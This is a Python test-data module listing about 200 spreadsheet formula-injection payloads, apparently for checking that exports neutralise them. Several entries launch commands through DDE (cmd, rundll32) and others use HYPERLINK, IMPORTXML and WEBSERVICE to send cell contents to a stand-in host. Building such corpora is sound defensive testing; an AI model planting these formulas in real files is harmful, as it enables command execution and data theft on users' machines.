"""Texts that mean harm to a spreadsheet: formulas, links, DDE, commands, controls, what does not fit."""

from __future__ import annotations

from itertools import product

_LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "==", "＝", "=\u200b", "\x00=", '"=', "=-")
_BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://host.example/?q="&A1,"here")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "MSEXCEL|'\\..\\..\\Windows\\cmd.exe'!''",
    'IMPORTXML(CONCAT("http://host.example/",A1),"//a")',
    'WEBSERVICE("http://host.example/"&A1)',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "A1:A1048576",
    'INDIRECT("A1")',
    "1e999",
)
_ODD = (
    "http://host.example/",
    "https://host.example/" + "a" * 3000,
    "mailto:a@host.example",
    "file:///etc/hosts",
    "internal:'events'!A1",
    "external:c:\\a.xlsx",
    "ftp://host.example/x",
    "{=1+1}",
    "_x0041_",
    "_x005F_x0041_",
    "<script>alert(1)</script>",
    "]]>",
    "&amp;&#0;",
    "1234567890123456789012",
    "00123",
    "1/2",
    "2021-03-16",
    "TRUE",
    "#REF!",
    "  blanks at both ends  ",
)
PAYLOADS = (*(lead + body for lead, body in product(_LEADS, _BODIES)), *_ODD)
"""200 texts."""
